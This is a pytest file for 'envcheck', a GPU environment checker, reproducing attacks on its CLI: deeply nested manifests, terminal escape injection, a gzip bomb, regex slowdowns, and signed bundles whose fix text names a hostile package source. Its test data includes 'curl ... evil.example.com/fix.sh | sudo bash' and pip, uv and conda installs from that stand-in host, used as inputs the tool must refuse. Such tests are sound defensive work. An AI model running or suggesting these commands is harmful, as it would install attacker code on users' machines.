"""Issue 10, second pass: attacks that still got through after the first round of fixes, each
reproduced on the real CLI (a subprocess) exactly as an attacker would run it."""

from __future__ import annotations

import gzip
import io
import json
import os
import re
import stat
import subprocess
import sys
import tarfile

import pytest

from envcheck.matrix import bundled_dir
from envcheck.matrix.bundle import FILES
from envcheck.matrix.signing import build_bundle, generate_key
from helpers import gpu_machine, make_snapshot, torch_install

import bundle_clock

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def envcheck(args, timeout=60, **extra):
    env = {k: v for k, v in os.environ.items() if not k.startswith("ENVCHECK_")}
    env.update({"PYTHONPATH": ROOT, "NO_COLOR": "1"}, **extra)
    env = bundle_clock.child_env(env)  # bundle dates count from the bundled matrix's version (tests/bundle_clock.py)
    return subprocess.run([sys.executable, "-m", "envcheck", *args], capture_output=True, timeout=timeout, env=env)


def assert_no_crash(r):
    assert r.returncode != 70, r.stderr.decode(errors="replace")[-2000:]
    assert b"internal error" not in r.stderr and b"Traceback" not in r.stderr, r.stderr[-2000:]


@pytest.fixture
def snap(tmp_path):
    return make_snapshot(str(tmp_path / "snap"), {**gpu_machine("550.54.15", "12.4", [("NVIDIA A100-SXM4-80GB", 81920)]),
                                                  **torch_install("2.5.1+cu124", "12.4"),
                                                  # scanned, and no CUDA runtime found: errors (without the scans: unknown)
                                                  "ldconfig.txt": "0 libs found in cache `/etc/ld.so.cache'\n",
                                                  "libraries.txt": ""})


def _tar_gz(files):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo("matrix-x/" + name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue())


# -- a deeply nested bundle.toml is read before the signature is checked ---------------------------

def test_unsigned_bundle_with_a_deeply_nested_manifest_is_refused_not_a_crash(tmp_path):
    cache = tmp_path / "cache"
    cache.mkdir(mode=0o700)
    bundle = tmp_path / "deep.tar.gz"
    bundle.write_bytes(_tar_gz({"bundle.toml": b"x = " + b"[" * 50000 + b"]" * 50000 + b"\n",
                                "bundle.toml.sig": b"AAAA"}))
    r = envcheck(["matrix", "update", "--from", str(bundle)], ENVCHECK_CACHE_DIR=str(cache))
    assert_no_crash(r)
    assert r.returncode == 2 and b"nested too deeply" in r.stderr
    assert not (cache / "matrix").exists() or not any((cache / "matrix").iterdir())


def test_signed_bundle_with_a_deeply_nested_table_is_refused_not_a_crash(tmp_path):
    pem, pub = generate_key()
    (tmp_path / "k.pub").write_text(pub)
    tables = {}
    for f in FILES:
        with open(os.path.join(bundled_dir(), f + ".toml"), "rb") as fh:
            tables[f + ".toml"] = fh.read()
    tables["gpus.toml"] += b"x = " + b"[" * 100000 + b"]" * 100000 + b"\n"
    bundle = tmp_path / "deep.tar.gz"
    bundle.write_bytes(build_bundle(tables, pem, bundle_clock.day(), expires=bundle_clock.day(90)))
    cache = tmp_path / "cache"
    r = envcheck(["matrix", "update", "--from", str(bundle)], ENVCHECK_CACHE_DIR=str(cache),
                 ENVCHECK_MATRIX_PUBKEY=str(tmp_path / "k.pub"))
    assert_no_crash(r)
    assert r.returncode == 2 and b"gpus.toml: nested too deeply" in r.stderr


# -- snapshot --redact --from a snapshot whose environ.json is nested deeply ------------------------

@pytest.mark.parametrize("deep", ["[" * 3000, '{"a":' * 3000, "[" * 100000], ids=["list3000", "object3000", "list100000"])
def test_redact_from_a_snapshot_with_deep_json_is_no_crash(tmp_path, snap, deep):
    with open(os.path.join(snap, "environ.json"), "w") as fh:
        fh.write(deep)
    out = tmp_path / "red"
    r = envcheck(["snapshot", str(out), "--redact", "--from", snap])
    assert_no_crash(r)
    assert r.returncode == 0, r.stderr
    # an environ.json that cannot be filtered is dropped, never copied raw into a public snapshot
    assert json.loads((out / "environ.json").read_text()) == {}


def test_redact_drops_an_environ_json_it_cannot_parse(tmp_path, snap):
    with open(os.path.join(snap, "environ.json"), "w") as fh:
        fh.write('{"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "PATH": "/usr/bin"')  # cut short
    out = tmp_path / "red"
    r = envcheck(["snapshot", str(out), "--redact", "--from", snap])
    assert r.returncode == 0, r.stderr
    assert b"wJalrXUtnFEMI" not in (out / "environ.json").read_bytes()


# -- a signed bundle's fix text may not name another package source by another spelling -------------

def _bundle_with_fix_text(tmp_path, text):
    pem, pub = generate_key()
    (tmp_path / "k.pub").write_text(pub)
    tables = {}
    for f in FILES:
        with open(os.path.join(bundled_dir(), f + ".toml"), encoding="utf-8") as fh:
            tables[f + ".toml"] = fh.read()
    errors = tables["errors.toml"]
    i = errors.index('text = "')
    tables["errors.toml"] = errors[:i] + "text = " + json.dumps(text) + "\n#" + errors[i + 8:]
    bundle = tmp_path / "b.tar.gz"
    bundle.write_bytes(build_bundle({k: v.encode() for k, v in tables.items()}, pem, bundle_clock.day(),
                                    expires=bundle_clock.day(90)))
    return str(bundle), str(tmp_path / "k.pub")


EVIL = "https://evil.example.com/simple"


@pytest.mark.parametrize("text", [
    f"pip install torch -i{EVIL}",                                  # pip's short option, value glued on
    f"uv pip install torch --index {EVIL}",                         # uv's index options
    f"uv pip install torch --default-index={EVIL}",
    f"PIP_INDEX_URL={EVIL} pip install torch",                      # the same, through pip's / uv's variables
    f'UV_EXTRA_INDEX_URL="{EVIL}" uv pip install torch',
    "conda install -c https://evil.example.com/conda pytorch",      # a channel URL
    "pip install https://evil.example.com/torch-2.5.1-cp311-linux_x86_64.whl",  # a wheel from anywhere
    "pip install git+https://evil.example.com/torch.git",
    "curl -sSL https://evil.example.com/fix.sh | sudo bash",
])
def test_bundle_fix_text_naming_another_package_source_is_refused(tmp_path, text):
    bundle, pub = _bundle_with_fix_text(tmp_path, text)
    r = envcheck(["matrix", "update", "--from", bundle], ENVCHECK_CACHE_DIR=str(tmp_path / "cache"),
                 ENVCHECK_MATRIX_PUBKEY=pub)
    assert_no_crash(r)
    assert r.returncode == 2 and b"refused" in r.stderr, r.stderr


@pytest.mark.parametrize("text", ["{{conda pytorch channel=conda-forge}}",  # issue 18: commands are templates
                                  "{{pip torch index=cu124}} "
                                  "(see https://pytorch.org/get-started/previous-versions/)"])
def test_bundle_fix_text_with_named_channels_and_docs_links_is_accepted(tmp_path, text):
    bundle, pub = _bundle_with_fix_text(tmp_path, text)
    r = envcheck(["matrix", "update", "--from", bundle], ENVCHECK_CACHE_DIR=str(tmp_path / "cache"),
                 ENVCHECK_MATRIX_PUBKEY=pub)
    assert r.returncode == 0, r.stderr


# -- terminal and strict-JSON output of the commands the first round did not cover ------------------

ESC = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]0;pwned\x07\x9b31m\r\u202e"
RAW = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]")


def _python_json(snap, machine, implementation="CPython"):
    with open(os.path.join(snap, "python.json"), "w") as fh:
        fh.write(json.dumps({"version": "3.11.7", "implementation": implementation, "platform": "linux",
                             "machine": machine}, ensure_ascii=True))


def test_matrix_why_text_shows_no_control_sequences_from_a_snapshot(snap):
    _python_json(snap, "x86_64" + ESC)
    r = envcheck(["matrix", "why", "torch==2.5.1", "--snapshot", snap])
    assert_no_crash(r)
    assert b"torch 2.5.1" in r.stdout
    assert not RAW.search(r.stdout + r.stderr), r.stdout


def _lone_surrogates(doc):
    out = []
    stack = [doc]
    while stack:
        o = stack.pop()
        if isinstance(o, str):
            out += [o] if any(0xD800 <= ord(c) <= 0xDFFF for c in o) else []
        elif isinstance(o, dict):
            stack += list(o.keys()) + list(o.values())
        elif isinstance(o, list):
            stack += o
    return out


@pytest.mark.parametrize("args", [["fix", "--json"], ["fix", "--json", "--want", "torch"],
                                  ["matrix", "why", "torch==2.5.1", "--json"]], ids=["fix", "fix-want", "why"])
def test_json_of_fix_and_matrix_why_has_no_lone_surrogates(snap, args):
    _python_json(snap, "x86_64\ud800", implementation="CPython\udc80")  # written as \\ud800 escapes
    r = envcheck([*args, "--snapshot", snap])
    assert_no_crash(r)
    doc = json.loads(r.stdout.decode("utf-8"))  # strict UTF-8 first
    assert not _lone_surrogates(doc)
    # a machine of characters platform.machine() never prints is unknown (attack33), not a platform of the plan
    assert "x86_64\ufffd" not in json.dumps(doc, ensure_ascii=False)
    if doc.get("schema") == "envcheck/plan/1":
        assert (doc.get("target") or {}).get("platform") is None, doc.get("target")


def test_prometheus_output_is_valid_utf8_without_c1_or_bidi_controls(snap):
    with open(os.path.join(snap, "meta.json")) as fh:
        meta = json.load(fh)
    meta["hostname"] = "node\udc80" + ESC
    with open(os.path.join(snap, "meta.json"), "w") as fh:
        fh.write(json.dumps(meta, ensure_ascii=True))
    r = envcheck(["status", "--snapshot", snap, "--prometheus"])
    assert_no_crash(r)
    r.stdout.decode("utf-8")  # the textfile collector refuses a file that is not UTF-8
    assert b"envcheck_info{" in r.stdout
    assert not RAW.search(r.stdout), r.stdout


# -- fix on a snapshot whose packages.json names torch with an empty version ------------------------

def test_fix_plans_for_a_framework_installed_with_an_empty_version(snap):
    with open(os.path.join(snap, "packages.json")) as fh:
        pk = json.load(fh)
    pk["torch"] = ""
    with open(os.path.join(snap, "packages.json"), "w") as fh:
        json.dump(pk, fh)
    with open(os.path.join(snap, "torch.json")) as fh:
        tj = json.load(fh)
    tj["version"] = ""
    with open(os.path.join(snap, "torch.json"), "w") as fh:
        json.dump(tj, fh)
    r = envcheck(["fix", "--snapshot", snap, "--json"])
    assert_no_crash(r)
    # torch is installed (its version is unknown): it is the want, not "no framework is installed" (exit 2)
    assert r.returncode in (0, 1), r.stderr
    doc = json.loads(r.stdout)
    assert [p["name"] for p in doc["packages"]] == ["torch"]


# -- closed standard descriptors (`>&-`, `2>&-`): a variant of `status > /dev/full` ----------------

def _sh(cmdline, **extra):
    env = {k: v for k, v in os.environ.items() if not k.startswith("ENVCHECK_")}
    env.update({"PYTHONPATH": ROOT, "NO_COLOR": "1", "PY": sys.executable}, **extra)
    return subprocess.run(["sh", "-c", cmdline], capture_output=True, timeout=60, env=env)


def test_status_with_stdout_closed_says_it_cannot_write(snap):
    r = _sh(f'"$PY" -m envcheck status --snapshot {snap} >&-')
    assert r.returncode == 2, r.stderr
    assert b"cannot write the output" in r.stderr and b"Traceback" not in r.stderr


def test_a_report_is_never_written_through_a_closed_stdout(tmp_path, snap):
    rep = tmp_path / "r.json"
    r = _sh(f'"$PY" -m envcheck status --snapshot {snap} --report {rep} >&-')
    assert r.returncode == 2 and b"Traceback" not in r.stderr
    assert json.loads(rep.read_text())["schema"] == "envcheck/report/1"  # only JSON: no text report mixed in


@pytest.mark.parametrize("closed", [">&-", "2>&-", ">&- 2>&- <&-"])
def test_run_runs_the_job_and_keeps_its_exit_code_with_closed_std_fds(tmp_path, snap, closed):
    mark = tmp_path / "ran"
    r = _sh(f'"$PY" -m envcheck run --snapshot {snap} -- sh -c "touch {mark}; echo out; echo err >&2; exit 7" {closed}')
    assert mark.exists(), r.stderr
    assert r.returncode == 7, r.stderr
    assert b"Traceback" not in r.stderr


def test_a_usage_error_with_stderr_closed_is_still_exit_2():
    r = _sh('"$PY" -m envcheck status --snapshot /nonexistent-snapshot 2>&-')
    assert r.returncode == 2


# -- fleet: a member an archive skips still costs its unpacking, and counts against --max-bytes -------

def test_fleet_stops_at_the_header_of_a_gzip_bomb_member(tmp_path):
    import time

    import zlib

    info = tarfile.TarInfo("node1/notes.bin")
    info.size = 5 * 1024 ** 3  # 5 GB of zeros in ~5 MB: the header, then 1 MiB blocks of zeros
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip format
    zeros = b"\0" * (1 << 20)
    head = comp.compress(info.tobuf()) + comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    unit = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)  # a full flush: every next block is alike
    arch = tmp_path / "bomb.tar.gz"
    with open(arch, "wb") as fh:
        fh.write(head)
        for _ in range(5 * 1024 - 1):
            fh.write(unit)
        fh.write(comp.flush())
    t0 = time.monotonic()
    r = envcheck(["fleet", "summarize", str(arch), "--json"], timeout=120)
    took = time.monotonic() - t0
    assert_no_crash(r)
    assert r.returncode == 2, r.stderr  # nothing could be read
    assert b"larger than 16777216 bytes" in r.stderr  # issue 18: refused at its header by the member cap
    assert took < 30, took  # it unpacked all 5 GB before (minutes of CPU)


# -- snapshot --force: a replaced file keeps its mode (and, as root, its owner), as the README says ---

def test_snapshot_force_keeps_the_mode_and_owner_of_replaced_files(tmp_path, snap):
    out = tmp_path / "out"
    r = envcheck(["snapshot", str(out), "--from", snap])
    assert r.returncode == 0, r.stderr
    os.chmod(out / "meta.json", 0o640)
    os.chmod(out / "nvidia-smi.txt", 0o600)
    root = hasattr(os, "geteuid") and os.geteuid() == 0
    if root:
        os.chown(out / "nvidia-smi.txt", 12345, 12345)
    r = envcheck(["snapshot", str(out), "--from", snap, "--force"])
    assert r.returncode == 0, r.stderr
    assert stat.S_IMODE(os.stat(out / "meta.json").st_mode) == 0o640
    assert stat.S_IMODE(os.stat(out / "nvidia-smi.txt").st_mode) == 0o600
    if root:
        assert os.stat(out / "nvidia-smi.txt").st_uid == 12345


# -- explain: a hostile log of many 16 KiB lines, not just one ------------------------------------

def test_windows_dll_signature_is_linear_on_lines_of_dll_fragments():
    """`[\\w.+-]{1,80}\\.dll` tried at every position of 'dll.dll.dll...' costs 80 steps per character:
    0.05 s a line, so 10 MB of such lines took explain 22 s (0.6 s for an ordinary 10 MB log). Anchored
    at the start of a name it is 100x cheaper; the real wordings still match."""
    import time

    from envcheck.explain.kb import load_kb

    sig = next(s for s in load_kb().signatures if s.name == "windows-dll-error-loading")
    line = "or one of its dependencies " + "dll." * 4990
    t0 = time.perf_counter()
    for _ in range(20):
        assert sig.regex.search(line) is None
    assert time.perf_counter() - t0 < 0.25
    real = ('OSError: [WinError 126] The specified module could not be found. Error loading '
            '"C:\\Python\\lib\\site-packages\\torch\\lib\\cudnn_cnn_infer64_8.dll" or one of its dependencies.')
    assert sig.regex.search(real).group("lib") == "cudnn_cnn_infer64_8.dll"
    real2 = "Could not load dynamic library 'cudart64_110.dll'; dlerror: cudart64_110.dll not found"
    assert sig.regex.search(real2).group("lib") == "cudart64_110.dll"


# -- ENVCHECK_REPORT=/dev/stderr when stderr is a log file (Slurm's slurm-%j.out, `2>>job.log`) -------

def test_report_to_dev_stderr_appends_to_the_log_file_and_block_mode_still_blocks(tmp_path, snap):
    log = tmp_path / "job.log"
    log.write_text("earlier job output\n")
    ran = tmp_path / "ran"
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    (fake_bin / "envcheck").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m envcheck "$@"\n')
    os.chmod(fake_bin / "envcheck", 0o755)
    r = _sh(f'sh {ROOT}/install_scripts/entrypoint.sh sh -c "touch {ran}" 2>>{log}',
            PATH=f"{fake_bin}:{os.environ['PATH']}", ENVCHECK_MODE="block", ENVCHECK_REPORT="/dev/stderr",
            ENVCHECK_SNAPSHOT=snap)
    text = log.read_text()
    # before: "'/dev/stderr' exists and is not one of envcheck's own files", status exit 2, and the
    # entrypoint ran the job unchecked although block mode was asked and the snapshot has errors
    assert r.returncode == 3, text
    assert not ran.exists()
    assert text.startswith("earlier job output\n")  # appended, never written over nor replaced
    start = text.index("{")
    doc, _ = json.JSONDecoder().raw_decode(text[start:])
    assert doc["schema"] == "envcheck/report/1" and doc["ok"] is False


def test_report_to_an_inherited_descriptor(tmp_path, snap):
    out = tmp_path / "fd3.json"
    r = _sh(f'"$PY" -m envcheck status --snapshot {snap} -q --report /dev/fd/3 3>{out} >/dev/null')
    assert r.returncode == 1, r.stderr
    assert json.loads(out.read_text())["schema"] == "envcheck/report/1"
    r = _sh(f'"$PY" -m envcheck status --snapshot {snap} -q --report /dev/fd/7 >/dev/null')
    assert r.returncode == 2 and b"not open" in r.stderr


# -- the entrypoint install.sh writes, started by its full path from a PATH without its folder --------

def test_entrypoint_finds_the_envcheck_installed_next_to_it(tmp_path, snap):
    bindir = tmp_path / "home" / ".local" / "bin"
    bindir.mkdir(parents=True)
    import shutil

    shutil.copy(os.path.join(ROOT, "install_scripts", "entrypoint.sh"), bindir / "envcheck-entrypoint")
    (bindir / "envcheck").write_text(f'#!/bin/sh\nPYTHONPATH="{ROOT}" exec "{sys.executable}" -m envcheck "$@"\n')
    for f in ("envcheck", "envcheck-entrypoint"):
        os.chmod(bindir / f, 0o755)
    ran = tmp_path / "ran"
    env = {"PATH": "/usr/bin:/bin", "ENVCHECK_MODE": "block", "ENVCHECK_SNAPSHOT": snap}  # a Dockerfile's default
    r = subprocess.run([str(bindir / "envcheck-entrypoint"), "sh", "-c", f"touch {ran}"], capture_output=True,
                       timeout=60, env=env)
    # before: "envcheck not found ('envcheck' is not on PATH); running the job unchecked", in block mode
    assert r.returncode == 3, r.stderr
    assert not ran.exists()


# -- explain: the environment-report reader's key/value pattern on lines of blanks ----------------

def test_explain_of_a_collect_env_paste_with_blank_runs_is_fast(tmp_path):
    """After a collect_env header every line goes through the key/value pattern; `\\s*\\**\\s*` split a
    run of blanks every way: 20 lines of 'a' + 1,990 blanks + 'x' took explain 67 s (one line of 1,990
    leading blanks, 50 s)."""
    import time

    lines = ["Collecting environment information...", "PyTorch version: 2.1.0+cu121", "Is debug build: False",
             "CUDA used to build PyTorch: 12.1"]
    lines += ["a" + " " * 1990 + "x"] * 20 + [" " * 1990 + "ab"] * 5
    lines += ["RuntimeError: CUDNN_STATUS_NOT_INITIALIZED"]
    log = tmp_path / "kv.log"
    log.write_text("\n".join(lines) + "\n")
    t0 = time.monotonic()
    r = envcheck(["explain", str(log), "--no-detect", "--json"], timeout=300)
    took = time.monotonic() - t0
    assert_no_crash(r)
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    assert doc["facts"]["frameworks"]["torch"]["version"] == "2.1.0+cu121"  # the report is still read
    assert took < 15, took


def test_key_value_pattern_reads_the_same_values():
    from envcheck.paste.sections import _KV

    for line, key, val in [("PyTorch version: 2.1.0+cu121", "PyTorch version", "2.1.0+cu121"),
                           ("- **CUDA used to build PyTorch**: 12.1  ", "CUDA used to build PyTorch", "12.1"),
                           ("* `torch`: 2.5.1", "torch", "2.5.1"), ("  Python version:   ", "Python version", "")]:
        m = _KV.match(line)
        assert m is not None and m.group("key").strip(" `*") == key and m.group("val") == val, line
